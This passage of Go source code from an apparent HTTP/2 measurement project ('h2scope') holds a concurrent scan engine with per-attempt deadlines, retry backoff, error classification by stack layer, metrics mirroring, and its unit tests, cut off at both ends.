	if _, err := Run(context.Background(), nil, nil, Options{}); err == nil {
		t.Fatal("Run with nil probe succeeded")
	}
}

func TestRunNoTargets(t *testing.T) {
	res, err := Run(context.Background(), nil,
		func(context.Context, Target) (any, error) { return nil, nil }, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Records) != 0 || res.Stats.Attempted != 0 || !res.Stats.Consistent() {
		t.Fatalf("empty run produced %+v", res)
	}
}

func TestRunSuccessKeepsInputOrder(t *testing.T) {
	const n = 20
	targets := make([]Target, n)
	for i := range targets {
		targets[i] = Target{Key: fmt.Sprintf("site-%02d", i)}
	}
	res, err := Run(context.Background(), targets,
		func(_ context.Context, tg Target) (any, error) { return tg.Key, nil },
		Options{Parallelism: 4, Clock: NewFakeClock(time.Unix(0, 0))})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Records) != n {
		t.Fatalf("got %d records, want %d", len(res.Records), n)
	}
	for i, rec := range res.Records {
		if rec.Target.Key != targets[i].Key || rec.Value != targets[i].Key {
			t.Errorf("record %d out of order: %+v", i, rec)
		}
		if rec.Outcome != OutcomeSuccess || rec.Attempts != 1 || rec.Err != "" {
			t.Errorf("record %d not a clean success: %+v", i, rec)
		}
	}
	s := res.Stats
	if s.Attempted != n || s.Succeeded != n || s.Failed != 0 || s.Canceled != 0 ||
		s.Retries != 0 || s.Attempts != n || s.InFlight != 0 || !s.Consistent() {
		t.Errorf("stats inconsistent with %d clean successes: %+v", n, s)
	}
}

// TestRetryScheduleDeterministic drives the retry loop with a fake clock:
// a target that fails twice with a transient kind must sleep the exact
// exponential schedule and then succeed, without any real waiting.
func TestRetryScheduleDeterministic(t *testing.T) {
	fc := NewFakeClock(time.Unix(1_700_000_000, 0))
	var attempts int
	probe := func(context.Context, Target) (any, error) {
		attempts++
		if attempts <= 2 {
			return nil, WithKind(KindDial, errors.New("connection refused"))
		}
		return "ok", nil
	}
	res, err := Run(context.Background(), []Target{{Key: "flaky"}}, probe, Options{
		Parallelism: 1,
		Retries:     5,
		Backoff:     noJitter,
		Clock:       fc,
	})
	if err != nil {
		t.Fatal(err)
	}
	rec := res.Records[0]
	if rec.Outcome != OutcomeSuccess || rec.Attempts != 3 || rec.Value != "ok" {
		t.Fatalf("record = %+v, want success after 3 attempts", rec)
	}
	wantSleeps := []time.Duration{100 * time.Millisecond, 200 * time.Millisecond}
	got := fc.Sleeps()
	if len(got) != len(wantSleeps) {
		t.Fatalf("engine slept %v, want %v", got, wantSleeps)
	}
	for i := range wantSleeps {
		if got[i] != wantSleeps[i] {
			t.Fatalf("sleep %d = %v, want %v", i, got[i], wantSleeps[i])
		}
	}
	if res.Stats.Retries != 2 || res.Stats.Attempts != 3 {
		t.Errorf("stats = %+v, want 2 retries over 3 attempts", res.Stats)
	}
	// Elapsed is fake-clock time: exactly the backoff total.
	if rec.Elapsed != 300*time.Millisecond {
		t.Errorf("Elapsed = %v, want 300ms of fake backoff", rec.Elapsed)
	}
}

// TestNonTransientNotRetried: protocol errors are properties of the server;
// retrying them would only re-measure the same violation.
func TestNonTransientNotRetried(t *testing.T) {
	fc := NewFakeClock(time.Unix(0, 0))
	var attempts int
	probe := func(context.Context, Target) (any, error) {
		attempts++
		return nil, frame.ConnError{Code: frame.ErrCodeProtocol, Reason: "goaway"}
	}
	res, err := Run(context.Background(), []Target{{Key: "broken"}}, probe, Options{
		Retries: 5,
		Backoff: noJitter,
		Clock:   fc,
	})
	if err != nil {
		t.Fatal(err)
	}
	rec := res.Records[0]
	if rec.Outcome != OutcomeFailed || rec.Kind != KindProtocol || rec.Attempts != 1 || attempts != 1 {
		t.Fatalf("record = %+v after %d attempts, want one failed protocol attempt", rec, attempts)
	}
	if len(fc.Sleeps()) != 0 {
		t.Errorf("engine backed off %v for a non-transient failure", fc.Sleeps())
	}
	if res.Stats.FailedByKind["protocol"] != 1 || res.Stats.Retries != 0 {
		t.Errorf("stats = %+v, want one protocol failure and no retries", res.Stats)
	}
}

func TestRetryCapExhausted(t *testing.T) {
	fc := NewFakeClock(time.Unix(0, 0))
	probe := func(context.Context, Target) (any, error) {
		return nil, WithKind(KindTimeout, errors.New("stalled"))
	}
	res, err := Run(context.Background(), []Target{{Key: "tarpit"}}, probe, Options{
		Retries: 2,
		Backoff: noJitter,
		Clock:   fc,
	})
	if err != nil {
		t.Fatal(err)
	}
	rec := res.Records[0]
	if rec.Outcome != OutcomeFailed || rec.Kind != KindTimeout || rec.Attempts != 3 {
		t.Fatalf("record = %+v, want failure after cap of 3 attempts", rec)
	}
	if n := len(fc.Sleeps()); n != 2 {
		t.Fatalf("engine slept %d times, want 2", n)
	}
	if res.Stats.Retries != 2 || res.Stats.FailedByKind["timeout"] != 1 {
		t.Errorf("stats = %+v, want 2 retries and one timeout failure", res.Stats)
	}
}

// TestPartialValueKept: a probe that salvages a partial result alongside its
// error must see that value preserved on the failed record.
func TestPartialValueKept(t *testing.T) {
	probe := func(context.Context, Target) (any, error) {
		return "half a report", WithKind(KindProtocol, errors.New("battery aborted"))
	}
	res, err := Run(context.Background(), []Target{{Key: "partial"}}, probe, Options{
		Clock: NewFakeClock(time.Unix(0, 0)),
	})
	if err != nil {
		t.Fatal(err)
	}
	rec := res.Records[0]
	if rec.Outcome != OutcomeFailed || rec.Value != "half a report" {
		t.Fatalf("record = %+v, want failed record keeping its partial value", rec)
	}
}

// TestAttemptDeadlineEnforced: the engine must free a worker from a probe
// that ignores its context entirely.
func TestAttemptDeadlineEnforced(t *testing.T) {
	release := make(chan struct{})
	t.Cleanup(func() { close(release) })
	probe := func(context.Context, Target) (any, error) {
		<-release // ignores ctx on purpose
		return nil, errors.New("too late")
	}
	start := time.Now()
	res, err := Run(context.Background(), []Target{{Key: "wedge"}}, probe, Options{
		Timeout: 50 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	if elapsed := time.Since(start); elapsed > 5*time.Second {
		t.Fatalf("Run took %v despite a 50ms attempt deadline", elapsed)
	}
	rec := res.Records[0]
	if rec.Outcome != OutcomeFailed || rec.Kind != KindTimeout {
		t.Fatalf("record = %+v, want timeout failure", rec)
	}
	if !strings.Contains(rec.Err, "attempt deadline") {
		t.Errorf("Err = %q, want the deadline message", rec.Err)
	}
}

// TestCancellationFinalizesEveryTarget: a canceled run must return promptly
// with one finalized record per input target — including targets the feeder
// never handed out — and stats that still partition.
func TestCancellationFinalizesEveryTarget(t *testing.T) {
	const n = 12
	targets := make([]Target, n)
	for i := range targets {
		targets[i] = Target{Key: fmt.Sprintf("t%d", i)}
	}
	ctx, cancel := context.WithCancel(context.Background())
	started := make(chan struct{}, n)
	probe := func(ctx context.Context, _ Target) (any, error) {
		started <- struct{}{}
		<-ctx.Done()
		return nil, ctx.Err()
	}
	go func() {
		<-started
		<-started // both workers are blocked in a probe
		cancel()
	}()
	start := time.Now()
	res, err := Run(ctx, targets, probe, Options{Parallelism: 2, Timeout: 10 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	if elapsed := time.Since(start); elapsed > 5*time.Second {
		t.Fatalf("canceled run drained in %v, want well under one 10s attempt deadline", elapsed)
	}
	if len(res.Records) != n {
		t.Fatalf("got %d records, want %d", len(res.Records), n)
	}
	for i, rec := range res.Records {
		if rec.Outcome != OutcomeCanceled || rec.Kind != KindCanceled {
			t.Errorf("record %d = %+v, want canceled", i, rec)
		}
		if rec.Err == "" {
			t.Errorf("record %d has empty Err", i)
		}
	}
	s := res.Stats
	if s.Attempted != n || s.Canceled != n || s.Succeeded != 0 || s.Failed != 0 || !s.Consistent() {
		t.Errorf("stats = %+v, want %d canceled and a consistent partition", s, n)
	}
}

// TestOnRecordFlushesEveryRecord: the flush hook must see each finalized
// record exactly once, cancellation included.
func TestOnRecordFlushesEveryRecord(t *testing.T) {
	const n = 10
	targets := make([]Target, n)
	for i := range targets {
		targets[i] = Target{Key: fmt.Sprintf("t%d", i)}
	}
	var flushed []string // OnRecord calls are serialized by the engine
	res, err := Run(context.Background(), targets,
		func(_ context.Context, tg Target) (any, error) {
			if tg.Key == "t3" {
				return nil, WithKind(KindTLS, errors.New("bad cert"))
			}
			return tg.Key, nil
		},
		Options{
			Parallelism: 4,
			Clock:       NewFakeClock(time.Unix(0, 0)),
			OnRecord:    func(rec Record) { flushed = append(flushed, rec.Target.Key) },
		})
	if err != nil {
		t.Fatal(err)
	}
	if len(flushed) != n {
		t.Fatalf("OnRecord saw %d records, want %d", len(flushed), n)
	}
	seen := make(map[string]int)
	for _, k := range flushed {
		seen[k]++
	}
	for _, tg := range targets {
		if seen[tg.Key] != 1 {
			t.Errorf("target %s flushed %d times, want exactly once", tg.Key, seen[tg.Key])
		}
	}
	if res.Stats.Failed != 1 || res.Stats.FailedByKind["tls"] != 1 {
		t.Errorf("stats = %+v, want exactly one tls failure", res.Stats)
	}
}

// TestProgressReporter: a Progress writer must receive periodic stats lines
// while the run is in flight.
func TestProgressReporter(t *testing.T) {
	var mu sync.Mutex
	var buf strings.Builder
	w := writerFunc(func(p []byte) (int, error) {
		mu.Lock()
		defer mu.Unlock()
		return buf.Write(p)
	})
	targets := make([]Target, 4)
	for i := range targets {
		targets[i] = Target{Key: fmt.Sprintf("t%d", i)}
	}
	_, err := Run(context.Background(), targets,
		func(context.Context, Target) (any, error) {
			time.Sleep(30 * time.Millisecond)
			return nil, nil
		},
		Options{Parallelism: 1, Progress: w, ProgressInterval: 5 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	mu.Lock()
	out := buf.String()
	mu.Unlock()
	if !strings.Contains(out, "scan:") {
		t.Errorf("progress writer got %q, want at least one stats line", out)
	}
}

func TestProgressExtraColumns(t *testing.T) {
	var mu sync.Mutex
	var buf strings.Builder
	w := writerFunc(func(p []byte) (int, error) {
		mu.Lock()
		defer mu.Unlock()
		return buf.Write(p)
	})
	targets := make([]Target, 4)
	for i := range targets {
		targets[i] = Target{Key: fmt.Sprintf("t%d", i)}
	}
	_, err := Run(context.Background(), targets,
		func(context.Context, Target) (any, error) {
			time.Sleep(30 * time.Millisecond)
			return nil, nil
		},
		Options{
			Parallelism:      1,
			Progress:         w,
			ProgressInterval: 5 * time.Millisecond,
			ProgressExtra:    func() string { return "dial=1.0ms/2.0ms" },
		})
	if err != nil {
		t.Fatal(err)
	}
	mu.Lock()
	out := buf.String()
	mu.Unlock()
	if !strings.Contains(out, "dial=1.0ms/2.0ms") {
		t.Errorf("progress output missing extra columns: %q", out)
	}
}

type writerFunc func(p []byte) (int, error)

func (f writerFunc) Write(p []byte) (int, error) { return f(p) }

func TestFakeClock(t *testing.T) {
	start := time.Unix(100, 0)
	fc := NewFakeClock(start)
	if err := fc.Sleep(context.Background(), 2*time.Second); err != nil {
		t.Fatal(err)
	}
	if got := fc.Now(); !got.Equal(start.Add(2 * time.Second)) {
		t.Errorf("Now = %v after 2s sleep from %v", got, start)
	}
	fc.Advance(time.Second)
	if got := fc.Now(); !got.Equal(start.Add(3 * time.Second)) {
		t.Errorf("Now = %v after Advance", got)
	}
	if got := fc.Sleeps(); len(got) != 1 || got[0] != 2*time.Second {
		t.Errorf("Sleeps = %v, want [2s] (Advance must not record)", got)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if err := fc.Sleep(ctx, time.Second); !errors.Is(err, context.Canceled) {
		t.Errorf("Sleep on canceled ctx = %v, want context.Canceled", err)
	}
	if got := fc.Sleeps(); len(got) != 1 {
		t.Errorf("canceled Sleep was recorded: %v", got)
	}
}
