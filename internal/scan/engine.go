// Package scan is the reproduction's production-grade scan substrate: a
// bounded, instrumented, failure-tolerant fan-out engine for running probe
// batteries against large target populations.
//
// The paper's measurement (Section IV-B) is a thread pool walking the Alexa
// top-1M; at that scale the wild web serves stalling handshakes, half-open
// connections, and refused ports as a matter of course. The engine therefore
// gives every target a hard per-attempt deadline, retries only transiently
// classified failures (dial/timeout — never TLS or protocol errors, which
// are properties of the server) with jittered exponential backoff, and
// degrades gracefully: a failed probe produces a typed partial Record
// instead of vanishing, so downstream tables can report coverage honestly.
// Atomic counters, a latency histogram, and an optional periodic progress
// reporter expose the run's health while it is in flight.
package scan

import (
	"context"
	"fmt"
	"hash/fnv"
	"io"
	"math/rand"
	"sync"
	"time"

	"h2scope/internal/metrics"
	"h2scope/internal/trace"
)

// Target identifies one unit of scan work.
type Target struct {
	// Key names the target (a domain, a host:port) in records and logs.
	Key string
	// Meta carries the caller's payload through to its ProbeFunc.
	Meta any
}

// ProbeFunc runs one probe attempt against a target. It must honor ctx where
// it can; the engine additionally enforces the per-attempt deadline from the
// outside, so a probe that ignores ctx still cannot wedge a worker. A
// non-nil value returned alongside a non-nil error is kept as the attempt's
// partial result.
type ProbeFunc func(ctx context.Context, t Target) (any, error)

// Outcome is the final disposition of one target.
type Outcome int

// The three terminal outcomes. The zero value is reserved to mean "not yet
// finalized" so the engine can detect targets a canceled run never reached.
const (
	// OutcomeSuccess means an attempt completed without error.
	OutcomeSuccess Outcome = iota + 1
	// OutcomeFailed means every allowed attempt failed.
	OutcomeFailed
	// OutcomeCanceled means the run's context ended before the target got a
	// full set of attempts.
	OutcomeCanceled
)

// String names the outcome for logs and persisted records.
func (o Outcome) String() string {
	switch o {
	case OutcomeSuccess:
		return "ok"
	case OutcomeFailed:
		return "failed"
	case OutcomeCanceled:
		return "canceled"
	default:
		return "pending"
	}
}

// Record is the engine's typed per-target result. Failed and canceled
// targets still produce one — with the classified kind, the error text, the
// attempt count, and whatever partial value the last attempt salvaged.
type Record struct {
	// Target is the input this record answers.
	Target Target
	// Outcome is the final disposition.
	Outcome Outcome
	// Kind classifies the final error for failed/canceled targets.
	Kind ErrorKind
	// Err is the final error text, empty on success.
	Err string
	// Attempts is how many probe attempts ran (retries included).
	Attempts int
	// Elapsed is the target's total wall time, backoff sleeps included.
	Elapsed time.Duration
	// Value is the probe's result: the full result on success, possibly a
	// partial one on failure, nil if nothing was salvaged.
	Value any
}

// Options configures a Run.
type Options struct {
	// Parallelism bounds concurrent targets (default 8).
	Parallelism int
	// Timeout is the hard per-attempt deadline (default 30s). The engine
	// enforces it even against probes that ignore their context.
	Timeout time.Duration
	// Retries caps retry attempts per target beyond the first (default 0).
	// Only transient error kinds (dial, timeout) are retried.
	Retries int
	// Backoff shapes the delay between retries.
	Backoff Backoff
	// Seed makes backoff jitter reproducible; per-target generators are
	// derived from it so schedules do not depend on goroutine interleaving.
	Seed int64
	// Clock drives backoff sleeps and latency accounting (default
	// SystemClock; tests inject FakeClock).
	Clock Clock
	// OnRecord, when set, receives every finalized Record as it completes —
	// the flush hook for persisting partial results. Calls are serialized.
	OnRecord func(Record)
	// Progress, when set, receives a one-line Stats rendering every
	// ProgressInterval while the run is in flight.
	Progress io.Writer
	// ProgressInterval defaults to 5s.
	ProgressInterval time.Duration
	// ProgressExtra, when set alongside Progress, is called at each progress
	// tick and its result is appended to the line — the hook the census uses
	// to add live phase-latency columns from the observability layer. It must
	// be safe for concurrent use with the run.
	ProgressExtra func() string
	// NewTracer, when set, is called once per fed target to create its
	// frame-level tracer. The tracer rides the attempt context
	// (trace.FromContext) so the probe stack can emit into it, its
	// emit/drop counters fold into the run's Stats, and it is handed to
	// OnTrace when the target finalizes. Targets a canceled run never fed
	// get no tracer. Nil disables tracing.
	NewTracer func(Target) *trace.Tracer
	// OnTrace, when set, receives each traced target's tracer as its
	// record finalizes — the flush hook for exporting traces. Calls are
	// serialized with OnRecord (trace delivered after the record).
	OnTrace func(Target, *trace.Tracer)
	// Metrics, when set, mirrors every counter bump into registered
	// instruments (h2_scan_*) in this registry, so a live -debug-addr
	// endpoint sees the run's progress. The run's own Stats stay private
	// and exact regardless; the registry view is process-cumulative across
	// runs sharing it.
	Metrics *metrics.Registry
}

// Result is a completed (or canceled) run.
type Result struct {
	// Records holds one entry per input target, in input order.
	Records []Record
	// Stats is the final counter snapshot; Stats.Consistent() holds.
	Stats Stats
}

// engine carries one run's plumbing.
type engine struct {
	probe    ProbeFunc
	opts     Options
	counters *counters

	recordMu sync.Mutex
}

// Run scans every target through probe under opts. It returns a Record per
// target in input order. Context cancellation is not an error: the run
// drains within one per-attempt deadline, unreached targets are finalized as
// canceled, and the partial Result is returned with consistent Stats.
func Run(ctx context.Context, targets []Target, probe ProbeFunc, opts Options) (*Result, error) {
	if probe == nil {
		return nil, fmt.Errorf("scan: nil probe")
	}
	if opts.Parallelism <= 0 {
		opts.Parallelism = 8
	}
	if opts.Timeout <= 0 {
		opts.Timeout = 30 * time.Second
	}
	if opts.Retries < 0 {
		opts.Retries = 0
	}
	if opts.Clock == nil {
		opts.Clock = SystemClock
	}
	if opts.ProgressInterval <= 0 {
		opts.ProgressInterval = 5 * time.Second
	}
	if ctx == nil {
		ctx = context.Background()
	}

	e := &engine{probe: probe, opts: opts, counters: newCounters()}
	if opts.Metrics != nil {
		e.counters.mirror = registryCounters(opts.Metrics)
	}
	records := make([]Record, len(targets))

	progressDone := e.startProgress(ctx)

	workers := opts.Parallelism
	if workers > len(targets) {
		workers = len(targets)
	}
	idxCh := make(chan int)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range idxCh {
				records[i] = e.runTarget(ctx, targets[i])
			}
		}()
	}
feed:
	for i := range targets {
		select {
		case idxCh <- i:
		case <-ctx.Done():
			break feed
		}
	}
	close(idxCh)
	wg.Wait()
	close(progressDone)

	// Targets the feeder never handed out (canceled runs) still get records
	// so coverage accounting stays honest.
	cause := context.Cause(ctx)
	if cause == nil {
		cause = context.Canceled
	}
	for i := range records {
		if records[i].Outcome == 0 {
			records[i] = e.finalize(Record{
				Target:  targets[i],
				Outcome: OutcomeCanceled,
				Kind:    KindCanceled,
				Err:     cause.Error(),
			}, nil)
		}
	}
	return &Result{Records: records, Stats: e.counters.Snapshot()}, nil
}

// startProgress launches the periodic reporter; the returned channel stops it.
func (e *engine) startProgress(ctx context.Context) chan struct{} {
	done := make(chan struct{})
	if e.opts.Progress == nil {
		return done
	}
	line := func() string {
		s := e.counters.Snapshot().String()
		if e.opts.ProgressExtra != nil {
			if extra := e.opts.ProgressExtra(); extra != "" {
				s += " " + extra
			}
		}
		return s
	}
	go func() {
		t := time.NewTicker(e.opts.ProgressInterval)
		defer t.Stop()
		for {
			select {
			case <-t.C:
				fmt.Fprintln(e.opts.Progress, line())
			case <-done:
				return
			case <-ctx.Done():
				// Keep reporting until the drain finishes; the final line is
				// the caller's to print from Result.Stats.
				select {
				case <-done:
					return
				case <-t.C:
					fmt.Fprintln(e.opts.Progress, line())
				}
			}
		}
	}()
	return done
}

// finalize applies a record (and its tracer's counters, if any) to the
// counters and flush hooks exactly once.
func (e *engine) finalize(rec Record, tr *trace.Tracer) Record {
	c := e.counters
	c.recordOutcome(rec)
	c.observeLatency(rec.Elapsed)
	if tr != nil {
		c.addTrace(tr)
	}
	if e.opts.OnRecord != nil || (e.opts.OnTrace != nil && tr != nil) {
		e.recordMu.Lock()
		if e.opts.OnRecord != nil {
			e.opts.OnRecord(rec)
		}
		if e.opts.OnTrace != nil && tr != nil {
			e.opts.OnTrace(rec.Target, tr)
		}
		e.recordMu.Unlock()
	}
	return rec
}

// runTarget drives one target through its attempt/backoff loop.
func (e *engine) runTarget(ctx context.Context, t Target) Record {
	rng := rand.New(rand.NewSource(e.opts.Seed ^ int64(hashKey(t.Key))))
	clock := e.opts.Clock
	start := clock.Now()
	var tr *trace.Tracer
	if e.opts.NewTracer != nil {
		tr = e.opts.NewTracer(t)
		ctx = trace.NewContext(ctx, tr)
	}
	rec := Record{Target: t}
	for retry := 0; ; retry++ {
		if err := ctx.Err(); err != nil {
			rec.Outcome, rec.Kind, rec.Err = OutcomeCanceled, KindCanceled, err.Error()
			break
		}
		v, err := e.attempt(ctx, t)
		rec.Attempts++
		if v != nil {
			rec.Value = v
		}
		if err == nil {
			rec.Outcome, rec.Kind, rec.Err = OutcomeSuccess, KindNone, ""
			break
		}
		kind := Classify(err)
		rec.Kind, rec.Err = kind, err.Error()
		if kind == KindCanceled {
			rec.Outcome = OutcomeCanceled
			break
		}
		if retry >= e.opts.Retries || !kind.Transient() {
			rec.Outcome = OutcomeFailed
			break
		}
		e.counters.addRetry()
		if serr := clock.Sleep(ctx, e.opts.Backoff.Delay(retry, rng)); serr != nil {
			rec.Outcome, rec.Kind, rec.Err = OutcomeCanceled, KindCanceled, serr.Error()
			break
		}
	}
	rec.Elapsed = clock.Now().Sub(start)
	if rec.Err != "" {
		tr.Error(0, rec.Err)
	}
	return e.finalize(rec, tr)
}

// attempt runs one probe attempt under the per-attempt deadline. The probe
// runs in its own goroutine so that even a probe that ignores its context
// cannot hold a worker past the deadline; an abandoned probe's result is
// discarded when it eventually returns.
func (e *engine) attempt(ctx context.Context, t Target) (any, error) {
	actx, cancel := context.WithTimeout(ctx, e.opts.Timeout)
	defer cancel()
	e.counters.beginAttempt()
	defer e.counters.endAttempt()

	type outcome struct {
		v   any
		err error
	}
	ch := make(chan outcome, 1)
	go func() {
		v, err := e.probe(actx, t)
		ch <- outcome{v, err}
	}()
	select {
	case o := <-ch:
		return o.v, o.err
	case <-actx.Done():
		err := actx.Err()
		if ctx.Err() == nil {
			// Attempt deadline, not run cancellation.
			err = WithKind(KindTimeout,
				fmt.Errorf("probe %q exceeded attempt deadline %v", t.Key, e.opts.Timeout))
		}
		return nil, err
	}
}

func hashKey(key string) uint64 {
	h := fnv.New64a()
	_, _ = h.Write([]byte(key))
	return h.Sum64()
}
