package scan

import (
	"math/rand"
	"time"
)

// Backoff computes exponential retry delays with jitter. The zero value is
// usable and yields the defaults below.
type Backoff struct {
	// Base is the delay before the first retry (default 100ms).
	Base time.Duration
	// Max caps the un-jittered delay (default 5s).
	Max time.Duration
	// Factor is the per-retry multiplier (default 2).
	Factor float64
	// Jitter is the fraction of the delay that is randomized (default 0.5,
	// clamped to 1; negative disables jitter): the returned delay is
	// uniform in [d*(1-Jitter), d]. Jittering decorrelates retry storms
	// across a large fleet of workers hammering the same set of slow hosts.
	Jitter float64
}

// withDefaults fills unset fields.
func (b Backoff) withDefaults() Backoff {
	if b.Base <= 0 {
		b.Base = 100 * time.Millisecond
	}
	if b.Max <= 0 {
		b.Max = 5 * time.Second
	}
	if b.Factor < 1 {
		b.Factor = 2
	}
	switch {
	case b.Jitter == 0:
		b.Jitter = 0.5
	case b.Jitter < 0:
		b.Jitter = 0
	case b.Jitter > 1:
		b.Jitter = 1
	}
	return b
}

// Delay returns the backoff before retry number retry (0-based), drawing
// jitter from rng so callers seeding rng get reproducible schedules.
func (b Backoff) Delay(retry int, rng *rand.Rand) time.Duration {
	b = b.withDefaults()
	d := float64(b.Base)
	for i := 0; i < retry; i++ {
		d *= b.Factor
		if d >= float64(b.Max) {
			break
		}
	}
	if d > float64(b.Max) {
		d = float64(b.Max)
	}
	if b.Jitter > 0 && rng != nil {
		d -= rng.Float64() * b.Jitter * d
	}
	if d < 1 {
		d = 1
	}
	return time.Duration(d)
}
