package scan

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"net"
	"syscall"

	"h2scope/internal/frame"
	"h2scope/internal/h2conn"
	"h2scope/internal/hpack"
)

// ErrorKind classifies a probe failure by which layer of the stack it came
// from. The engine retries only transient kinds: a connection that was
// refused or timed out may succeed on a second attempt, while a TLS
// negotiation failure or an HTTP/2 protocol violation is a property of the
// server and will not improve with retrying.
type ErrorKind int

// The failure vocabulary, ordered roughly by stack layer.
const (
	// KindNone means no failure (successful probes).
	KindNone ErrorKind = iota
	// KindDial covers transport-establishment and transport-loss failures:
	// refused connections, DNS errors, resets, closed pipes.
	KindDial
	// KindTLS covers TLS handshake and certificate failures.
	KindTLS
	// KindProtocol covers HTTP/2 and HPACK violations: the transport worked
	// but the peer spoke the protocol wrong (or we provoked it to).
	KindProtocol
	// KindTimeout means an attempt exceeded its deadline or a protocol wait
	// expired with the connection still nominally alive.
	KindTimeout
	// KindCanceled means the scan's context was canceled; the target was not
	// given a fair chance and is excluded from failure accounting.
	KindCanceled
	// KindOther is everything unclassified.
	KindOther

	numErrorKinds = int(KindOther) + 1
)

// String names the kind for logs, stats maps, and persisted records.
func (k ErrorKind) String() string {
	switch k {
	case KindNone:
		return "none"
	case KindDial:
		return "dial"
	case KindTLS:
		return "tls"
	case KindProtocol:
		return "protocol"
	case KindTimeout:
		return "timeout"
	case KindCanceled:
		return "canceled"
	default:
		return "other"
	}
}

// Transient reports whether a failure of this kind is worth retrying.
func (k ErrorKind) Transient() bool {
	return k == KindDial || k == KindTimeout
}

// KindError wraps an error with an explicit classification, letting probe
// code that knows better than the generic classifier pin the kind.
type KindError struct {
	Kind ErrorKind
	Err  error
}

// WithKind wraps err with an explicit kind.
func WithKind(kind ErrorKind, err error) error {
	return &KindError{Kind: kind, Err: err}
}

// Error implements the error interface.
func (e *KindError) Error() string {
	return fmt.Sprintf("%s: %v", e.Kind, e.Err)
}

// Unwrap supports errors.Is/As.
func (e *KindError) Unwrap() error { return e.Err }

// Classify maps an error to its ErrorKind. Explicit KindError wrappers win;
// otherwise the chain is inspected for context, TLS, net, framing, and HPACK
// error types, in roughly that order of specificity.
func Classify(err error) ErrorKind {
	if err == nil {
		return KindNone
	}
	var ke *KindError
	if errors.As(err, &ke) {
		return ke.Kind
	}
	if errors.Is(err, context.Canceled) {
		return KindCanceled
	}
	if errors.Is(err, context.DeadlineExceeded) || errors.Is(err, h2conn.ErrTimeout) {
		return KindTimeout
	}

	// TLS layer: handshake record errors, certificate failures, alerts.
	var (
		recordErr tls.RecordHeaderError
		certErr   *tls.CertificateVerificationError
		alertErr  tls.AlertError
		unkAuth   x509.UnknownAuthorityError
		hostErr   x509.HostnameError
		invCert   x509.CertificateInvalidError
	)
	if errors.As(err, &recordErr) || errors.As(err, &certErr) || errors.As(err, &alertErr) ||
		errors.As(err, &unkAuth) || errors.As(err, &hostErr) || errors.As(err, &invCert) {
		return KindTLS
	}

	// Protocol layer: HTTP/2 framing and HPACK violations, or a peer that
	// dropped the connection mid-conversation without an error frame.
	var (
		connErr   frame.ConnError
		streamErr frame.StreamError
		hpackErr  hpack.DecodingError
	)
	if errors.As(err, &connErr) || errors.As(err, &streamErr) || errors.As(err, &hpackErr) ||
		errors.Is(err, frame.ErrFrameTooLarge) || errors.Is(err, h2conn.ErrConnClosed) {
		return KindProtocol
	}

	// Transport layer. Timeouts are classified as such even when they
	// surface as net errors; everything else transport-shaped is dial-class.
	var netErr net.Error
	if errors.As(err, &netErr) && netErr.Timeout() {
		return KindTimeout
	}
	var opErr *net.OpError
	if errors.As(err, &opErr) {
		return KindDial
	}
	var dnsErr *net.DNSError
	if errors.As(err, &dnsErr) {
		return KindDial
	}
	if errors.Is(err, net.ErrClosed) || errors.Is(err, io.ErrClosedPipe) ||
		errors.Is(err, syscall.ECONNREFUSED) || errors.Is(err, syscall.ECONNRESET) ||
		errors.Is(err, syscall.EPIPE) || errors.Is(err, io.EOF) ||
		errors.Is(err, io.ErrUnexpectedEOF) {
		return KindDial
	}
	return KindOther
}
