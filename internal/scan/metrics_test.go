package scan

import (
	"context"
	"errors"
	"testing"
	"time"

	"h2scope/internal/metrics"
)

func registryValue(t *testing.T, r *metrics.Registry, name string) int64 {
	t.Helper()
	for _, m := range r.Snapshot() {
		if m.Name == name {
			return m.Value
		}
	}
	t.Fatalf("metric %q not registered", name)
	return 0
}

// TestRunMirrorsIntoRegistry proves the dual-write design: each run's Stats
// are exact and private, while a shared registry accumulates across runs for
// the live debug endpoint.
func TestRunMirrorsIntoRegistry(t *testing.T) {
	r := metrics.NewRegistry()
	targets := []Target{{Key: "a"}, {Key: "b"}, {Key: "c"}}
	probe := func(ctx context.Context, tg Target) (any, error) {
		if tg.Key == "c" {
			return nil, errors.New("tls: handshake failure")
		}
		return tg.Key, nil
	}
	opts := Options{Parallelism: 2, Timeout: time.Second, Metrics: r}

	res1, err := Run(context.Background(), targets, probe, opts)
	if err != nil {
		t.Fatalf("Run 1: %v", err)
	}
	if res1.Stats.Attempted != 3 || res1.Stats.Succeeded != 2 || res1.Stats.Failed != 1 {
		t.Fatalf("run 1 stats = %+v", res1.Stats)
	}
	if got := registryValue(t, r, "h2_scan_targets_total"); got != 3 {
		t.Fatalf("h2_scan_targets_total = %d after run 1, want 3", got)
	}
	if got := registryValue(t, r, metrics.Label("h2_scan_outcomes_total", "outcome", "ok")); got != 2 {
		t.Fatalf("ok outcomes = %d, want 2", got)
	}

	res2, err := Run(context.Background(), targets, probe, opts)
	if err != nil {
		t.Fatalf("Run 2: %v", err)
	}
	// Per-run stats reset; the registry accumulates.
	if res2.Stats.Attempted != 3 {
		t.Fatalf("run 2 Attempted = %d, want 3 (per-run stats must not accumulate)", res2.Stats.Attempted)
	}
	if got := registryValue(t, r, "h2_scan_targets_total"); got != 6 {
		t.Fatalf("h2_scan_targets_total = %d after run 2, want 6", got)
	}
	if got := registryValue(t, r, "h2_scan_attempts_total"); got != 6 {
		t.Fatalf("h2_scan_attempts_total = %d, want 6", got)
	}
	if got := registryValue(t, r, "h2_scan_in_flight"); got != 0 {
		t.Fatalf("h2_scan_in_flight = %d after drain, want 0", got)
	}
	if got := registryValue(t, r, metrics.Label("h2_scan_failures_total", "kind", Classify(errors.New("tls: x")).String())); got == 0 {
		t.Fatal("per-kind failure counter not mirrored")
	}
	if got := registryValue(t, r, "h2_scan_target_latency_ns"); got != 6 {
		t.Fatalf("latency histogram count = %d, want 6", got)
	}
}

// TestRunWithoutRegistry keeps the no-metrics path allocation of a mirror-free
// counter set working (nil Options.Metrics is the default).
func TestRunWithoutRegistry(t *testing.T) {
	res, err := Run(context.Background(), []Target{{Key: "x"}},
